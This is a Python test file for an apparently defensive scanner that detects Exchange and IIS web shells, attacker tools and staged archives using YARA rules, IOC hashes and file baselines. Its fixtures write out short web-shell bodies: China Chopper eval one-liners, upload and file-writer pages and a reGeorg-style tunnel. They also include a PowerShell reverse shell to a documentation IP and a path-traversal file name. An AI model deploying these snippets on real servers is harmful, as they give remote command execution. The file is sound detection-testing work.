"""File-tree evidence source: places, YARA rules, IOCs, baselines, the scanner and collect.

Every true positive is assembled here from the string facts of the detection reference; no
sample web shell is stored anywhere.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from exhunt.diagnostics import CODES
from exhunt.files import (
    BASELINE_RULE,
    build_baseline,
    collect,
    file_rules,
    load_baseline,
    load_iocs,
    relevant,
    scan_files,
    shipped_rules,
)
from exhunt.files.iocs import shipped
from exhunt.files.places import baseline_key, exchange_relative
from exhunt.files.rules import RULES_DIR, compile_rules, parse_meta, shipped_infos
from exhunt.files.scanner import escape
from exhunt.layouts import discover
from exhunt.layouts.evidence import Collection, EvidenceFile
from exhunt.model import FindingStage, Level

EX = "C:/Program Files/Microsoft/Exchange Server/V15"
EXW = r"C:\Program Files\Microsoft\Exchange Server\V15"

# --- shell text assembled from the reference's string facts (§3.5, §2.2) -------------------------------------

CHOPPER_ONE_LINER = ('<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}'
                     "</script>")
OAB_DUMP = (
    "Name                            : OAB (Default Web Site)\r\n"
    "InternalUrl                     : https://mail.contoso.local/OAB\r\n"
    "InternalAuthenticationMethods   : {WindowsIntegrated}\r\n"
    f"ExternalUrl                     : http://f/{CHOPPER_ONE_LINER}\r\n"
    "ExternalAuthenticationMethods   : {WindowsIntegrated}\r\n"
    "ExtendedProtectionTokenChecking : None\r\n"
    "OfflineAddressBooks             : {}\r\n"
)
OAB_DUMP_CLEAN = OAB_DUMP.replace(f"http://f/{CHOPPER_ONE_LINER}", "https://mail.contoso.com/OAB")

POSITIVES: dict[str, tuple[str, bytes]] = {
    "WS-CHOPPER-1": (r"C:\inetpub\wwwroot\aspnet_client\system_web\k1.aspx",
                     b'<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString('
                     b'System.Convert.FromBase64String(Request.Item["z"])),"unsafe");%>'),
    "WS-CHOPPER-2": (rf"{EXW}\FrontEnd\HttpProxy\owa\auth\Current\themes\k2.aspx",
                     b'<%@ Page Language="Jscript" Debug=true%><%var c=Request.Form("c");eval(c);%>'),
    "WS-WRITER-1": (r"C:\inetpub\wwwroot\aspnet_client\k3.aspx",
                    b'<script runat="server">void Page_Load(object s, EventArgs e){System.IO.StreamWriter sw = '
                    b'new System.IO.StreamWriter(Request.Form["p"] , false, Encoding.Default);'
                    b'sw.Write(Request.Form["f"]);sw.Close();}</script>'),
    "WS-UPLOAD-1": (r"C:\inetpub\wwwroot\aspnet_client\k4.aspx",
                    b'<%@ Page Language="C#" %>\r\n<% HttpPostedFile thisFile = Request.Files[0];'
                    b'thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); %>'),
    "WS-JSCRIPT-PS-1": (rf"{EXW}\FrontEnd\HttpProxy\ecp\auth\Logout.aspx",
                        b'<script language="JScript" runat="server">function Page_Load(){var k=Request["AppcacheVer"];'
                        b"if(k){eval(k);}else{Response.Redirect('/owa/');}}</script>"),
    "WS-DROPHELL-1": (r"C:\inetpub\wwwroot\aspnet_client\k6.aspx",
                      b'<%@ Page Language="C#" %><% var x = new System.Xml.XmlDocument(); x.LoadXml(System.Text.'
                      b'Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["a"]))); var t = new '
                      b"System.Xml.Xsl.XslCompiledTransform(); var m = new System.IO.MemoryStream(); "
                      b"t.Transform(x, null, m); %>"),
    "WS-REGEORG-1": (r"C:\inetpub\wwwroot\aspnet_client\k7.aspx",
                     b'<%@ Import Namespace="System.Net.Sockets" %><% IPAddress ip; string[] p = '
                     b"Request.Headers.Get(\"X-T\").Split('|'); string h = p[0].Substring(1); ip = IPAddress.Parse(h);"
                     b" Socket s = new Socket(ip.AddressFamily, SocketType.Stream, ProtocolType.Tcp); %>"),
    "WS-SPORTSBALL-1": (r"C:\inetpub\wwwroot\aspnet_client\k8.aspx",
                        b'<%@ Page Language="C#" %><script runat="server">void Page_Load(){ HttpCookie newcook = '
                        b'new HttpCookie("fqrspt", HttpContext.Current.Request.Form["x"]); }</script>'),
    "WS-FILEEXP-1": (r"C:\inetpub\wwwroot\k9.aspx",
                     b'<%@ Page Language="C#" %><script runat="server">void List(){ foreach (var d in '
                     b'DriveInfo.GetDrives()) {} } void Mk(){ Directory.CreateDirectory(txt.Text); '
                     b'msg.Text = txt.Text + " Created!"; }</script>'),
    "WS-SECCHECK-1": (rf"{EXW}\FrontEnd\HttpProxy\owa\auth\k10.aspx",
                      b'<%@ Page Language="C#" %><% if (System.IO.File.Exists("c:\\\\program files (x86)\\\\fireeye'
                      b'\\\\xagt.exe")) Response.Write("fe"); %>'),
    "WS-COMPILED-1": (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\0a1b2c3d"
                      r"\4e5f6a7b\App_Web_k2l3m4n5.dll",
                      b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 200
                      + "~/aspnet_client/k1.aspx".encode("utf-16-le") + b"\x00" * 50 + b"JScriptEvaluate\x00"),
    "WS-OABCONF-1": (rf"{EXW}\FrontEnd\HttpProxy\OAB\k12.aspx", OAB_DUMP.encode()),
    "WS-PST-1": (r"C:\inetpub\wwwroot\aspnet_client\570221043.aspx",
                 b"!BDN\x9a\x4b\x1f\x6e" + b"\x00\x17\xfe" * 300 + b'<%@ Page Language="Jscript"%>'
                 b'<%eval(Request.Item["gold8899"],"unsafe");%>' + b"\x00\x13\xab" * 200),
    "WS-DER-1": (r"C:\inetpub\wwwroot\aspnet_client\k14.aspx",
                 b"\x30\x82\x03\x10\x30\x82\x01\xf8" + b"\x02\x01\x00\x31" * 20 + b'<%@ Page Language="C#" %>'),
    "WS-ODDHEADER-1": (rf"{EXW}\FrontEnd\HttpProxy\owa\auth\k15.aspx",
                       b'\x01\x00\x7f\x02<%@ Page Language="C#" %><html></html>'),
    "TOOL-POWERCAT-1": (r"C:\ProgramData\pc.ps1",
                        b"function powercat\r\n{\r\n  param($c, $p, $e)\r\n  $CommandToExecute = $e\r\n}\r\n"),
    "TOOL-NISHANG-1": (r"C:\Users\Public\r.ps1",
                       b"$client = New-Object System.Net.Sockets.TCPClient('192.0.2.10',443);$stream = "
                       b"$client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, "
                       b"$bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding)."
                       b"GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );"
                       b"$stream.Write($sendbyte,0,$sendbyte.Length)}"),
    "TOOL-LSASS-1": (r"C:\Windows\Temp\lsass.dmp", b"MDMP\x93\xa7\x00\x00" + b"\x00" * 120),
    "TOOL-LSASS-2": (r"C:\root\lsass.dmp.zip", b"PK\x03\x04" + b"\x00" * 60),
    "ARCH-STAGING-1": (r"C:\ProgramData\it.zip", b"PK\x03\x04\x14\x00" + b"\x00" * 100),
    "ARCH-WEB-1": (r"C:\inetpub\wwwroot\x.dmp.zip", b"MSCF\x00\x00\x00\x00" + b"\x00" * 100),
    "ARCH-RECON-1": (r"C:\ProgramData\VSPerfMon\r.cab",
                     b"MSCF\x00\x00\x00\x00" + b"\x00" * 40 + b"ip.txt\x00arp.txt\x00system\x00security\x00"),
    "MSERT-1": (r"C:\Windows\debug\msert.log",
                "\ufeffMicrosoft Safety Scanner v1.0\r\nThreat Detected: Backdoor:ASP/SecChecker.A\r\n"
                .encode("utf-16-le")),
}
# the same log file carries the Exchange-specific name as well
ALSO = {"MSERT-2": "MSERT-1"}

# --- helpers -------------------------------------------------------------------------------------------------


def kape_path(root: Path, windows_path: str) -> Path:
    drive, rest = windows_path.split(":", 1)
    return root.joinpath(drive, *[part for part in rest.split("\\") if part])


def write_tree(root: Path, files: dict[str, bytes]) -> None:
    for windows_path, data in files.items():
        target = kape_path(root, windows_path)
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)


def scan_tree(root: Path, **options):  # type: ignore[no-untyped-def]
    collections, _ = discover([root])
    assert len(collections) == 1 and collections[0].layout == "kape"
    return scan_files(collections[0], **options), collections[0]


def by_source(findings) -> dict[str, set[str]]:  # type: ignore[no-untyped-def]
    out: dict[str, set[str]] = {}
    for finding in findings:
        out.setdefault(finding.source, set()).add(finding.rule.id)
    return out


# --- places --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("path", "place"), [
    (rf"{EXW}\FrontEnd\HttpProxy\owa\auth\logon.aspx", "exchange-web"),
    (r"D:\Exchange\FrontEnd\HttpProxy\ecp\auth\TimeoutLogout.aspx", "exchange-web"),
    (r"E:\Apps\Exchange Server\V15\ClientAccess\Owa\auth\error.aspx", "exchange-web"),
    (rf"{EXW}\FrontEnd\HttpProxy\OAB\log.aspx", "exchange-web"),
    (r"C:\inetpub\wwwroot\aspnet_client\system_web\log.aspx", "iis-web"),
    (r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\a\b\App_Web_x.dll",
     "aspnet-temp"),
    (r"C:\ProgramData\it.zip", "staging"),
    (r"C:\Users\All Users\COM1\x.aspx", "staging"),
    (r"C:\root\lsass.dmp", "staging"),
    (r"C:\PerfLogs\cm.exe", "staging"),
    (r"C:\Users\Public\opera\opera_browser.exe", "staging"),
    (r"C:\Windows\Temp\xx.bat", "staging"),
    (r"C:\Windows\System32\inetsrv\config\applicationHost.config", "iis-config"),
    (r"C:\Windows\debug\msert.log", "msert-log"),
    (r"C:\Windows\Help\mui\0109\mscoree.dll", "ioc-path"),
    (r"C:\Program Files\Common Files\system\ado\msado32.tlb", "ioc-path"),
    (rf"{EXW}\Logging\HttpProxy\Owa\HttpProxy_2021030100-1.LOG", None),
    (r"C:\Windows\System32\mscoree.dll", None),
    (r"C:\Users\alice\Documents\report.zip", None),
    (r"C:\Windows\debug\other.log", None),
])
def test_places(path: str, place: str | None) -> None:
    listed = shipped().path_listed
    assert relevant(path, listed) == place
    assert relevant(path.replace("\\", "/"), listed) == place


def test_exchange_relative_keys_like_css_baselines() -> None:
    relative = exchange_relative(r"D:\Ex\FrontEnd\HttpProxy\owa\auth\logon.aspx")
    assert relative == r"\FrontEnd\HttpProxy\owa\auth\logon.aspx"
    assert baseline_key(rf"{EXW}\ClientAccess\ecp\default.aspx") == r"\clientaccess\ecp\default.aspx"
    assert baseline_key(rf"{EXW}\ClientAccess\OAB\Temp\LZX1234.djs") is None  # generated OAB data
    assert exchange_relative(r"C:\inetpub\wwwroot\x.aspx") is None


# --- rules ---------------------------------------------------------------------------------------------------


def test_rules_compile_once_and_carry_metadata() -> None:
    rules = shipped_rules()
    assert rules is shipped_rules()
    assert shipped_infos() == rules.infos  # listing the rules does not compile them
    ids = [info.id for info in rules.infos.values()]
    assert len(ids) == len(set(ids)) >= 20
    for info in rules.infos.values():
        assert info.stage is FindingStage.POST
        assert info.title and info.references[0].startswith("https://")
        assert all(re.fullmatch(r"CVE-\d{4}-\d{4,}", cve) for cve in info.cves)
    assert rules.infos["exhunt_arch_staging_1"].level is Level.LOW
    assert {info.id for info in rules.infos.values()} >= set(POSITIVES) | set(ALSO)


def test_rule_without_required_meta_is_rejected() -> None:
    with pytest.raises(ValueError, match="lacks meta"):
        parse_meta('rule x { meta: id = "X-1" title = "t" condition: true }', "bad.yar")


@pytest.mark.skipif(shutil.which("yara") is None, reason="yara command-line scanner not installed")
def test_rules_also_compile_with_yara_4(tmp_path: Path) -> None:
    files = sorted(str(path) for path in RULES_DIR.glob("*.yar"))
    sample = tmp_path / "s.aspx"
    sample.write_text(CHOPPER_ONE_LINER)
    done = subprocess.run(["yara", "-d", "place=iis-web", "-d", "filename=s.aspx", *files, str(sample)],
                          capture_output=True, text=True, check=True)
    assert "exhunt_ws_chopper_1" in done.stdout


def test_every_rule_has_a_true_positive(tmp_path: Path) -> None:
    write_tree(tmp_path / "HOST", {path: data for path, data in POSITIVES.values()})
    result, _ = scan_tree(tmp_path / "HOST")
    found = by_source(result.findings)
    for rule_id, (path, _data) in POSITIVES.items():
        assert rule_id in found.get(path, set()), (rule_id, found.get(path))
    for rule_id, carrier in ALSO.items():
        assert rule_id in found[POSITIVES[carrier][0]]
    assert not result.diagnostics
    assert result.files_examined == len(POSITIVES)
    assert result.bytes_read == sum(len(data) for _, data in POSITIVES.values())
    # the ProxyShell-family JScript rule does not claim the classic HAFNIUM one-liner
    oab = next(f for f in result.findings if f.rule.id == "WS-OABCONF-1")
    assert oab.rule.cves == ("CVE-2021-26855", "CVE-2021-27065")
    assert "WS-JSCRIPT-PS-1" not in found[POSITIVES["WS-OABCONF-1"][0]]


def test_finding_shape(tmp_path: Path) -> None:
    path = r"C:\inetpub\wwwroot\aspnet_client\system_web\k1.aspx"
    data = POSITIVES["WS-CHOPPER-1"][1]
    write_tree(tmp_path / "HOST", {path: data})
    target = kape_path(tmp_path / "HOST", path)
    os.utime(target, (1614816000, 1614816000))
    result, _ = scan_tree(tmp_path / "HOST")
    finding = next(f for f in result.findings if f.rule.id == "WS-CHOPPER-1")
    assert finding.source_kind == "file" and finding.source == path and finding.line is None
    assert finding.time == datetime(2021, 3, 4, tzinfo=UTC)
    assert finding.evidence["sha256"] == hashlib.sha256(data).hexdigest()
    assert finding.evidence["size"] == str(len(data))
    assert finding.evidence["rule"] == "exhunt_ws_chopper_1"
    matched = finding.evidence["matched"]
    assert matched.startswith("eval(System.Text") or matched.startswith("Request.Item")
    assert len(matched) <= 200 and all(32 <= ord(ch) < 127 for ch in matched)
    assert finding.rule.level is Level.CRITICAL and finding.rule.stage is FindingStage.POST
    assert finding.to_dict()["source_kind"] == "file"


def test_escape_is_short_printable_ascii() -> None:
    text = escape(b"\x00ab\\c\r\n\xff" + b"x" * 500)
    assert text.startswith("\\x00ab\\\\c\\r\\n\\xff") and len(text) <= 200 and text.endswith("...")
    assert all(32 <= ord(ch) < 127 for ch in text)


NEGATIVES: dict[str, bytes] = {
    # legitimate Exchange page: ASP.NET markup, request handling, shipped name
    rf"{EXW}\FrontEnd\HttpProxy\owa\auth\logon.aspx":
        b'<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.Clients.Owa.Core.'
        b'OwaPage" %>\r\n<%@ Import Namespace="System.Web" %>\r\n<html><body><form action="/owa/auth.owa" '
        b'method="POST"><input type="hidden" name="destination" value="<%=Request.QueryString["url"]%>">'
        b'<script type="text/javascript">var a = eval("1+1");</script></form></body></html>',
    rf"{EXW}\FrontEnd\HttpProxy\owa\auth\15.1.2176\scripts\premium\flogon.js":
        b"function x(){ var c='unsafe-inline'; return eval(q); } // Request[0]",
    rf"{EXW}\ClientAccess\ecp\web.config": b'<?xml version="1.0"?><configuration></configuration>',
    rf"{EXW}\FrontEnd\HttpProxy\owa\auth\utf8bom.aspx.txt": b'\xef\xbb\xbf<%@ Page Language="C#" %>',
    r"C:\Windows\Temp\notepad.dmp": b"MDMP\x93\xa7\x00\x00" + "C:\\Windows\\System32\\notepad.exe".encode(
        "utf-16-le"),
    r"C:\root\oabvdir.txt": OAB_DUMP_CLEAN.encode(),
    r"C:\ProgramData\export.pst": b"!BDN" + b"\x00" * 2000 + b"Quarterly report",
    r"C:\ProgramData\cert.req": b"\x30\x82\x01\x0a" + b"\x02\x01\x00" * 50,
    r"C:\inetpub\wwwroot\iisstart.htm": b"<html><head><title>IIS Windows Server</title></head></html>",
    r"C:\inetpub\wwwroot\aspnet_client\system_web\4_0_30319\WebUIValidation.js": b"var Page_ValidationVer = '125';",
    r"C:\ProgramData\Microsoft\Windows Defender\Support\MPLog.log": b"Threat Detected: nothing to see",
    # evidence outside every place is not examined, whatever it holds
    rf"{EXW}\Logging\ECP\Server\ECPServer20210303-1.LOG": CHOPPER_ONE_LINER.encode(),
    r"C:\Users\alice\Desktop\notes.aspx": CHOPPER_ONE_LINER.encode(),
}


def test_near_misses_are_silent(tmp_path: Path) -> None:
    write_tree(tmp_path / "HOST", NEGATIVES)
    result, _ = scan_tree(tmp_path / "HOST")
    assert result.findings == ()
    assert result.files_examined == len(NEGATIVES) - 2


def test_admin_zip_in_programdata_is_low_only(tmp_path: Path) -> None:
    path = r"C:\ProgramData\McAfee\Agent\logs\McAfee_Logs.zip"
    write_tree(tmp_path / "HOST", {path: b"PK\x03\x04\x14\x00" + b"\x00" * 200})
    result, _ = scan_tree(tmp_path / "HOST")
    assert [(f.rule.id, f.rule.level) for f in result.findings] == [("ARCH-STAGING-1", Level.LOW)]


# --- IOCs ----------------------------------------------------------------------------------------------------


def test_shipped_iocs_cite_every_entry() -> None:
    iocs = shipped()
    assert len(iocs.hashes) >= 80
    assert {"mstic", "eset", "cisa", "volexity", "signature-base", "hvs"} <= set(iocs.sources)
    for entries in iocs.hashes.values():
        for entry in entries:
            assert entry.source in iocs.sources and entry.reference.startswith("https://")
    known = "sha256:b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0"  # MSTIC + HAFNIUM blog
    assert known in iocs.hashes
    assert "sha256:1631a90eb5395c4e19c7dbcbf611bbe6444ff312eb7937e286e4637cb9e72944" in iocs.hashes
    assert "sha256:893cd3583b49cb706b3e55ecb2ed0757b977a21f5c72e041392d1256f31166e2" in iocs.hashes  # Volexity
    assert {"md5", "sha1"} == iocs.small_hash_kinds  # HvS publishes only those


def test_hash_match_is_critical(tmp_path: Path) -> None:
    shell = b"<%@ Page Language=\"C#\" %><% /* an unknown shell */ %>"
    other = b"renamed tool"
    table = tmp_path / "iocs.yml"
    table.write_text(
        "sources: {t: {title: test, reference: 'https://example.invalid/', licence: '-'}}\n"
        "hashes:\n"
        f"  - {{sha256: {hashlib.sha256(shell).hexdigest()}, source: t, reference: 'https://example.invalid/1'}}\n"
        f"  - {{md5: {hashlib.md5(other).hexdigest()}, source: t, reference: 'https://example.invalid/2'}}\n")
    write_tree(tmp_path / "HOST", {rf"{EXW}\FrontEnd\HttpProxy\owa\auth\logon.aspx": shell,
                                   r"C:\Windows\Temp\svc.exe": other})
    collections, _ = discover([tmp_path / "HOST"])
    result = scan_files(collections[0], iocs=load_iocs(table))
    hits = {(f.source.rsplit("\\", 1)[-1], f.rule.id, f.rule.level) for f in result.findings}
    # a shipped name is no finding on its name, but a hash is evidence
    assert hits == {("logon.aspx", "IOC-HASH-1", Level.CRITICAL), ("svc.exe", "IOC-HASH-1", Level.CRITICAL)}


def test_name_and_path_iocs(tmp_path: Path) -> None:
    benign = b"<html>nothing here</html>"
    files = {
        r"C:\inetpub\wwwroot\aspnet_client\xclkmcfldfi948398430fdjkfdkj.aspx": benign,  # MSTIC path
        r"D:\Exchange\FrontEnd\HttpProxy\owa\auth\8Lw7tAhF9i1pJnRo.aspx": benign,  # MSTIC path, other install
        r"C:\ProgramData\tools\shell.aspx": benign,  # name only
        r"C:\Windows\Help\mui\0109\mscoree.dll": b"MZ",  # ESET path outside the places
        r"C:\Windows\System32\mscoree.dll": b"MZ",  # the legitimate one: not examined
        r"C:\ProgramData\COM1\x.aspx": benign,  # ProxyShell device-name folder
    }
    write_tree(tmp_path / "HOST", files)
    result, _ = scan_tree(tmp_path / "HOST")
    found = {source: {(f.rule.id, str(f.rule.level)) for f in result.findings if f.source == source}
             for source in files}
    assert found[r"C:\inetpub\wwwroot\aspnet_client\xclkmcfldfi948398430fdjkfdkj.aspx"] == {
        ("IOC-PATH-1", "medium"), ("IOC-LOC-1", "medium")}
    assert found[r"D:\Exchange\FrontEnd\HttpProxy\owa\auth\8Lw7tAhF9i1pJnRo.aspx"] == {
        ("IOC-PATH-1", "medium"), ("IOC-LOC-6", "medium")}
    assert found[r"C:\ProgramData\tools\shell.aspx"] == {("IOC-NAME-1", "low")}
    assert found[r"C:\Windows\Help\mui\0109\mscoree.dll"] == {("IOC-PATH-1", "medium")}
    assert found[r"C:\Windows\System32\mscoree.dll"] == set()
    assert ("IOC-LOC-5", "high") in found[r"C:\ProgramData\COM1\x.aspx"]
    finding = next(f for f in result.findings if f.rule.id == "IOC-PATH-1" and "8Lw7" in f.source)
    assert finding.evidence["ioc"].startswith("mstic: ") and finding.evidence["reference"].startswith("https://")


def test_exchange_shipped_names_need_content_or_hash(tmp_path: Path) -> None:
    plain = b'<%@ Page Language="C#" %><html>Exchange page</html>'
    shipped_names = ["errorFE.aspx", "logoff.aspx", "logon.aspx", "OutlookCN.aspx", "RedirSuiteServiceProxy.aspx",
                     "signout.aspx", "expiredpassword.aspx", "frowny.aspx", "svmfeedback.aspx", "default.aspx",
                     "errorPage.aspx"]
    files = {rf"{EXW}\FrontEnd\HttpProxy\owa\auth\{name}": plain for name in shipped_names}
    files[rf"{EXW}\FrontEnd\HttpProxy\ecp\auth\TimeoutLogout.aspx"] = plain  # MSTIC lists it; Exchange ships it
    files[rf"{EXW}\FrontEnd\HttpProxy\owa\auth\Current\themes\resources\logon.aspx"] = plain  # MSTIC path
    write_tree(tmp_path / "HOST", files)
    result, _ = scan_tree(tmp_path / "HOST")
    assert result.findings == ()
    # the same name with shell content is reported on its content
    write_tree(tmp_path / "HOST", {rf"{EXW}\FrontEnd\HttpProxy\owa\auth\errorPage.aspx": CHOPPER_ONE_LINER.encode()})
    result, _ = scan_tree(tmp_path / "HOST")
    assert {f.rule.id for f in result.findings} == {"WS-CHOPPER-1"}


# --- scanner: limits, unreadable files, links, zips ----------------------------------------------------------


def test_size_cap_hashes_everything_scans_the_head(tmp_path: Path) -> None:
    path = r"C:\inetpub\wwwroot\aspnet_client\big.txt"
    data = b"A" * 5000 + CHOPPER_ONE_LINER.encode() + b"B" * 3000
    write_tree(tmp_path / "HOST", {path: data})
    result, _ = scan_tree(tmp_path / "HOST", max_bytes=1024)
    assert result.findings == ()
    assert result.bytes_read == len(data) and result.files_examined == 1
    (problem,) = result.diagnostics
    assert problem.code == "EXH-F001" and problem.level == "info" and problem.source == path
    assert "1024" in problem.message and CODES["EXH-F001"][0] == "info"
    full, _ = scan_tree(tmp_path / "HOST")
    finding = next(f for f in full.findings if f.rule.id == "WS-CHOPPER-1")
    assert finding.evidence["sha256"] == hashlib.sha256(data).hexdigest()
    assert finding.evidence["offset"] == str(data.index(b"eval("))


def test_unreadable_file_and_links_are_diagnostics(tmp_path: Path) -> None:
    real = tmp_path / "real.aspx"
    real.write_text(CHOPPER_ONE_LINER)
    link = tmp_path / "link.aspx"
    link.symlink_to(real)
    files = (
        EvidenceFile(r"C:\inetpub\wwwroot\gone.aspx", None, str(tmp_path / "missing.aspx"), 10, None),
        EvidenceFile(r"C:\inetpub\wwwroot\link.aspx", None, str(link), 10, None),
        EvidenceFile(r"C:\inetpub\wwwroot\dir.aspx", None, str(tmp_path), 0, None),
    )
    result = scan_files(Collection("host", "windows-root", str(tmp_path), files))
    assert result.findings == () and result.files_examined == 0
    assert [(d.code, d.source) for d in result.diagnostics] == [("EXH-R001", f.path) for f in files]


def test_zip_collection_is_read_in_place(tmp_path: Path) -> None:
    archive = tmp_path / "HOST.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("C/inetpub/wwwroot/aspnet_client/x.aspx", CHOPPER_ONE_LINER)
        out.writestr("C/Windows/System32/winevt/Logs/placeholder.txt", "x")
    collections, _ = discover([archive])
    result = scan_files(collections[0])
    finding = next(f for f in result.findings if f.rule.id == "WS-CHOPPER-1")
    assert finding.source == r"C:\inetpub\wwwroot\aspnet_client\x.aspx" and finding.time is None
    assert finding.origin.endswith("HOST.zip!C/inetpub/wwwroot/aspnet_client/x.aspx")


# --- collect -------------------------------------------------------------------------------------------------


def test_collect_zip_with_manifest_and_safe_names(tmp_path: Path) -> None:
    shell = CHOPPER_ONE_LINER.encode()
    evil_source = tmp_path / "evil.bin"
    evil_source.write_bytes(shell)
    write_tree(tmp_path / "HOST", {r"C:\inetpub\wwwroot\aspnet_client\a.aspx": shell,
                                   r"C:\inetpub\wwwroot\aspnet_client\system_web\b.aspx": shell,
                                   r"C:\ProgramData\it.zip": b"PK\x03\x04" + b"\x00" * 30})
    collections, _ = discover([tmp_path / "HOST"])
    evil = EvidenceFile(r"C:\inetpub\wwwroot\aspnet_client\..\..\..\evil.aspx", None, str(evil_source), len(shell))
    collection = Collection("host", "kape", str(tmp_path), (*collections[0].files, evil))
    result = scan_files(collection)
    assert any(f.source == evil.path for f in result.findings)
    out = tmp_path / "flagged.zip"
    summary = collect(result.findings, collection, out)
    digest = hashlib.sha256(shell).hexdigest()
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        assert all(re.fullmatch(r"WARNING\.txt|manifest\.csv|files/[0-9a-f]{64}\.bin", name) for name in names)
        assert archive.read(f"files/{digest}.bin") == shell
        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert summary.members == 2 and summary.rows == 4 and summary.missing == ()
    by_path = {row["path"]: row for row in rows}
    assert by_path[evil.path]["member"] == f"files/{digest}.bin"
    assert by_path[r"C:\inetpub\wwwroot\aspnet_client\a.aspx"]["sha256"] == digest
    assert "WS-CHOPPER-1" in by_path[r"C:\inetpub\wwwroot\aspnet_client\a.aspx"]["rules"].split()
    assert by_path[r"C:\ProgramData\it.zip"]["rules"] == "ARCH-STAGING-1"
    assert all(row["status"] == "stored" for row in rows)
    assert not (tmp_path / "evil.aspx").exists()
    with pytest.raises(FileExistsError):
        collect(result.findings, collection, out)


# --- baselines -----------------------------------------------------------------------------------------------


def test_baseline_round_trip_and_deviations(tmp_path: Path) -> None:
    good = {rf"{EXW}\FrontEnd\HttpProxy\owa\auth\logon.aspx": b"<%@ Page Language=\"C#\" %>logon",
            rf"{EXW}\FrontEnd\HttpProxy\owa\auth\errorFE.aspx": b"<%@ Page Language=\"C#\" %>error",
            # a stock file that happens to match a content rule: known-good, so silent with a baseline
            rf"{EXW}\ClientAccess\ecp\odd.aspx": CHOPPER_ONE_LINER.encode(),
            r"C:\inetpub\wwwroot\iisstart.htm": b"<html></html>"}
    write_tree(tmp_path / "GOOD", good)
    collections, _ = discover([tmp_path / "GOOD"])
    baseline = build_baseline(collections, build="15.1.2176.2")
    assert len(baseline) == 3 and baseline.builds == ("15.1.2176.2",)
    saved = tmp_path / "baseline.csv"
    baseline.save(saved)
    first = saved.read_text(encoding="utf-8").splitlines()[0]
    assert re.fullmatch(r"[0-9A-F]{64},15\.1\.2176\.2,\\ClientAccess\\ecp\\odd\.aspx", first)
    loaded = load_baseline(saved)
    assert loaded.index == baseline.index
    suspect = dict(good)
    suspect[rf"{EXW}\FrontEnd\HttpProxy\owa\auth\errorFE.aspx"] = b"<%@ Page Language=\"C#\" %>changed"
    suspect[rf"{EXW}\FrontEnd\HttpProxy\owa\auth\k9x2.aspx"] = CHOPPER_ONE_LINER.encode()
    write_tree(tmp_path / "SUSPECT", suspect)
    result, _ = scan_tree(tmp_path / "SUSPECT", baseline=loaded)
    found = by_source(result.findings)
    assert found == {
        rf"{EXW}\FrontEnd\HttpProxy\owa\auth\errorFE.aspx": {"BASELINE-1"},
        rf"{EXW}\FrontEnd\HttpProxy\owa\auth\k9x2.aspx": {"BASELINE-1", "WS-CHOPPER-1", "IOC-LOC-6"},
    }
    assert BASELINE_RULE.level is Level.MEDIUM
    without, _ = scan_tree(tmp_path / "SUSPECT")
    assert rf"{EXW}\ClientAccess\ecp\odd.aspx" in by_source(without.findings)


def test_unreadable_file_is_left_out_of_the_baseline_with_a_diagnostic(tmp_path: Path) -> None:
    archive = tmp_path / "GOOD.zip"
    member = "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(member, b"<%@ Page Language=\"C#\" %>logon")
        zf.writestr(member.replace("logon", "errorFE"), b"<%@ Page Language=\"C#\" %>error")
    data = archive.read_bytes()
    archive.write_bytes(data.replace(b"%>logon", b"%>LOGON"))  # stored bytes no longer match their CRC-32
    collections, _ = discover([archive])
    baseline = build_baseline(collections)
    assert len(baseline) == 1
    (problem,) = baseline.unreadable
    assert problem.code == "EXH-R001" and problem.source.endswith("logon.aspx") and "CRC" in problem.message


def test_load_baseline_rejects_garbage(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("not,a,baseline\n")
    with pytest.raises(ValueError, match=r"bad\.csv:1"):
        load_baseline(bad)


CSS_BASELINES = ("css-exchange__baseline_15.0.1497.12.csv", "css-exchange__baseline_15.1.2176.2.csv",
                 "css-exchange__baseline_15.2.792.10.csv")


@pytest.mark.parametrize("name", CSS_BASELINES)
def test_css_exchange_baselines_load(samples: Path, name: str) -> None:
    baseline = load_baseline(samples / "baselines" / name)
    assert len(baseline) > 5000
    assert baseline.builds == (name.split("_")[-1].removesuffix(".csv"),)
    assert r"\frontend\httpproxy\owa\auth\logon.aspx" in baseline.index
    assert all(key.startswith(("\\frontend\\", "\\clientaccess\\")) for key in list(baseline.index)[:100])


def test_baseline_from_css_list_reports_exactly_the_shell(samples: Path, tmp_path: Path) -> None:
    css = load_baseline(samples / "baselines" / "css-exchange__baseline_15.1.2176.2.csv")
    web = sorted(path for _, _, path in css.rows
                 if baseline_key(EXW + path) is not None and re.search(r"\\(owa|ecp)\\", path, re.I))
    chosen = web[:: max(1, len(web) // 400)]
    tree = {EXW + path: f"// stand-in for {path}\n".encode() for path in chosen}
    write_tree(tmp_path / "GOOD", tree)
    collections, _ = discover([tmp_path / "GOOD"])
    ours = build_baseline(collections, build="15.1.2176.2")
    assert len(ours) == len(chosen)
    # our baseline uses the CSS keying: every key we recorded is a path the CSS list has
    assert set(ours.index) <= set(css.index)
